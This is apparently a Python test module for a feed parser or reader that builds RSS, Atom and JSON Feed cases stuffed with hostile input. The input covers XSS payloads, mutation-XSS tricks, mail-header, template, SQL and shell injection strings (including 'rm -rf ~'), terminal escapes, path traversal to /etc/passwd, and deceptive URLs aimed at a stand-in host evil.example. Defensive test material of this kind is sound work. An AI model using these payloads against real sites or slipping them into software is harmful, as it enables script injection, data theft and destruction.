"""Hostile markup: script in every field, addresses that are none, text that acts."""

import json
from html import escape

from tests.hostile.case import OK, Case, atom, document, entry, item, rss

_ONE = ("A post",)

# What browsers have run, though it looked harmless to somebody's filter.
PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "script-unclosed": "<script src=//evil.example/x.js",
    "script-in-script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-with-nul": "<scr\0ipt>alert(1)</scr\0ipt>",
    "image-error": "<img src=x onerror=alert(1)>",
    "image-error-with-slashes": "<img/src=x/onerror=alert(1)>",
    "image-of-script": "<img src='javascript:alert(1)' srcset='javascript:alert(2)'>",
    "link-of-script": "<a href='javascript:alert(1)'>x</a>",
    "link-with-tab": "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "link-with-newline": "<a href='java\nscript:alert(1)'>x</a>",
    "link-with-entities": "<a href='&#106&#97&#118&#97script&colon;alert(1)'>x</a>",
    "link-with-tab-in-the-scheme": "<a href='https\t://a.example/x'>x</a>",
    "link-with-breaks": "<img alt='\n' src='&#10;https:&#10;//a.example/&#9;x'>",
    "link-with-controls": "<a href='\x01\x02 javascript:alert(1)'>x</a>",
    "link-of-vbscript": "<a href='VBscript:msgbox(1)'>x</a>",
    "link-of-data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "link-of-a-file": "<a href='file:///etc/passwd'>x</a>",
    "link-of-blob": "<a href='blob:https://a.example/1'>x</a>",
    "svg": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "math": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "math-link": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>",
    "math-annotation": "<math><annotation-xml encoding='text/html'><script>alert(1)",
    "form-nested": "<form><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=alert(1)>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "template": "<template><script>alert(1)</script></template>",
    "textarea": "<textarea><img title='</textarea><img src onerror=alert(1)>'>",
    "title-element": "<title><img title='</title><img src onerror=alert(1)>'></title>",
    "xmp": "<xmp><p title='</xmp><svg/onload=alert(1)>'>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "comment-bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "comment-conditional": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata-in-html": "<![CDATA[><img src=x onerror=alert(1)>]]&gt;",
    "instruction": "<?php <img src=x onerror=alert(1)> ?>",
    "style": "<style>@import 'http://evil.example/x'; *{-moz-binding:url(x)}</style>",
    "style-attribute": "<p style='background:url(javascript:alert(1));position:fixed'>",
    "base": "<base href='https://evil.example/'><a href='login'>x</a>",
    "meta": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "frame": "<iframe src='javascript:alert(1)' srcdoc='<script>alert(1)</script>'>",
    "object": "<object data='data:text/html,<script>'></object><embed src=x>",
    "form": "<form action='https://evil.example'><input name=password autofocus "
    "onfocus=alert(1)><button formaction=javascript:alert(1)>x</form>",
    "details": "<details open ontoggle=alert(1)><video><source onerror=alert(1)>",
    "quote": '"><img src=x onerror=alert(1)><p title="',
    "apostrophe": "'><script>alert(1)</script><p title='",
    "backtick": "<img src=`x` onerror=`alert(1)`>",
    "escaped": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "escaped-twice": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "attribute-id": "<a id=location name=cookie class=admin>x</a>",
    "tag-of-letters": "<x onclick=alert(1) contenteditable autofocus>x</x>",
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "marquee": "<marquee onstart=alert(1)><blink>x</blink></marquee>",
    "close-page": "</p></td></table></body></html><script>alert(1)</script>",
    "close-style": "</style><script>alert(1)</script><!--",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "full-width": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
}

# Text that means something to what shows or stores it.
TEXTS = {
    "mail-header": "A post\r\nBcc: all@evil.example\r\n\r\n<script>alert(1)</script>",
    "mail-header-by-reference": "A post&#13;&#10;Bcc: all@evil.example",
    "mail-header-by-separators": "A post\u2028Bcc: all@evil.example\u0085X: 1",
    "mail-word": "=?utf-8?q?A_post=0D=0ABcc:_all@evil.example?=",
    "mail-dot": "A post\r\n.\r\nMAIL FROM:&lt;a@evil.example>",
    "terminal-escapes": "A &#27;]0;owned&#7;&#27;[2J&#27;[31m post &#155;1m",
    "terminal-link": "A &#27;]8;;file:///etc/passwd&#27;\\post&#27;]8;;&#27;\\",
    "terminal-backspace": "A&#8;&#8;&#8; post&#127;",
    "console-markup": "[link=javascript:alert(1)]A[/link] [red]post[/] [@click=app.x]",
    "direction": "A \u202etsop\u202c \u2066evil\u2069 \u2067post",
    "zero-width": "A\u200b\u200d\ufeff p\u00adost\u2060",
    "marks-stacked": f"A post {'e' + chr(0x301) * 5_000}",
    "markdown-link": "A [post](javascript:alert(1)) ![x](http://evil.example/p.png)",
    "markdown-autolink": "A &lt;javascript:alert(1)> post",
    "markdown-html": "A `</code>` &lt;img src=x onerror=alert(1)> post",
    "markdown-break": "# A post\n\n---\n\n- [ ] more\n&gt; said",
    "markdown-reference": "[A post]: javascript:alert(1) 'x'",
    "template": "A {{ 7*7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} post",
    "format": "A %s %n {0} {0.__class__} %(x)s post",
    "sql": "A post'); drop table item; --",
    "full-text-query": 'A " OR title:* NEAR( post AND NOT',
    "shell": "A post; $(rm -rf ~) `id` | sh",
    "tex": r"A \input{/etc/passwd} \write18{id} ^^5cinput post",
    "csv": "=HYPERLINK(&quot;http://evil.example&quot;)",
    "path": "../../../../etc/passwd",
}

ADDRESSES = {
    "javascript": "javascript:alert(1)",
    "javascript-in-capitals": "JaVaScRiPt:alert(1)",
    "javascript-with-a-tab": "java\tscript:alert(1)",
    "javascript-with-slashes": "javascript://a.example/%0aalert(1)",
    "javascript-after-space": " \x0b javascript:alert(1)",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "blob": "blob:https://a.example/1",
    "view-source": "view-source:https://a.example/",
    "feed-of-script": "feed:javascript:alert(1)",
    "no-host": "http:///path",
    "half-a-bracket": "http://[::1/post",
    "port-of-letters": "http://a.example:port/",
    "port-99999": "http://a.example:99999/",
    "credentials": "https://bank.example@evil.example/",
    "backslashes": "https:\\\\evil.example\\@bank.example/",
    "backslash-in-the-host": "https://evil.example\\.good.example/",
    "quotes": 'https://a.example/"onmouseover="alert(1)',
    "angles": "https://a.example/>&lt;script>alert(1)&lt;/script>",
    "line-break": "https://a.example/\r\nSet-Cookie: a=b",
    "nul": "https://a.example/\0.png",
    "direction": "https://a.example/\u202egnp.exe",
    "brackets": "https://a.example/)](javascript:alert(1)",
    "surrogate": "https://a.example/\ud800",
    "fullwidth": "https://a\uff0eexample\uff0f@evil.example",
}


def _everywhere(name: str, payload: str) -> Case:
    """Return a case with a payload in every field that a feed of Atom has."""
    text, inside = escape(payload), escape(payload, quote=True)
    body = (
        f'<id>{text}</id><title type="html">A post {text}</title>'
        f'<link href="/post/1"/><link rel="related" href="{inside}"/>'
        f'<summary type="html">{text}</summary><content type="html">{text}</content>'
        f"<author><name>{text}</name><uri>{text}</uri><email>{text}</email></author>"
        f'<contributor><name>{text}</name></contributor><category term="{inside}" '
        f'label="{inside}"/><rights type="html">{text}</rights>'
        f"<published>{text}</published><source><title>{text}</title></source>"
    )
    return Case(f"markup-{name}", document(atom(f"<entry>{body}</entry>")), OK)


def _unescaped() -> Case:
    """Return a case whose markup is XML of its own, in a field that holds XHTML."""
    div = (
        '<div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>'
        '<img src="x" onerror="alert(1)"/><svg xmlns="http://www.w3.org/2000/svg" '
        'onload="alert(1)"><script>alert(1)</script></svg></div>'
    )
    body = f'<content type="xhtml">{div}</content><summary type="xhtml">{div}</summary>'
    titled = f'<title type="xhtml">{div}</title>'
    return Case("markup-xhtml", document(atom(entry(titled, body))), OK)


def _in_base64() -> Case:
    script = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    titled = f'<title mode="base64" type="text/html">{script}</title>'
    body = f'<content mode="base64" type="text/html">{script}</content>'
    return Case("markup-base64", document(atom(entry(titled, body))), OK)


def _in_json(name: str, payload: str) -> Case:
    fields = dict.fromkeys(
        ("title", "summary", "content_html", "external_url", "image"), payload
    )
    listed = {"id": payload, "url": "/post/1", "tags": [payload]} | fields
    named = {"name": payload, "url": payload}
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "items": [{**listed, "authors": [named]}],
    }
    body = json.dumps(feed).encode()
    return Case(f"json-markup-{name}", document(body, "application/feed+json"), OK)


def _said(name: str, text: str) -> Case:
    """Return a case that says a text in the fields which people are shown."""
    body = f"<author>{text}</author><category>{text}</category>"
    body += f"<description>{text}</description>"
    return Case(f"text-{name}", document(rss(item(text, body))), OK)


def _addressed(name: str, address: str) -> Case:
    """Return a case in which every address is one that is none."""
    body = (
        f"<link>{address}</link><guid isPermaLink='true'>{address}</guid>"
        f"<comments>{address}</comments><description><![CDATA["
        f"<a href='{address}'>x</a> <img src='{address}'>]]></description>"
    )
    feed = rss(f"<item><title>A post</title>{body}</item>")
    return Case(f"address-{name}", document(feed), OK, titles=_ONE)


def _based(name: str, base: str) -> Case:
    """Return a case whose relative addresses are relative to what is no page."""
    feed = rss(item(), head=f'xml:base="{base}"')
    return Case(f"base-{name}", document(feed), OK, titles=_ONE)


CASES = (
    *(_everywhere(name, payload) for name, payload in PAYLOADS.items()),
    *(
        _in_json(name, PAYLOADS[name])
        for name in ("script", "image-error", "link-of-script", "math", "svg", "quote")
    ),
    _unescaped(),
    _in_base64(),
    *(_said(name, text) for name, text in TEXTS.items()),
    *(_addressed(name, address) for name, address in ADDRESSES.items()),
    _based("javascript", "javascript:alert(1)//"),
    _based("data", "data:text/html,"),
    _based("elsewhere", "https://evil.example/"),
    _based("broken", "http://[::1/"),
)
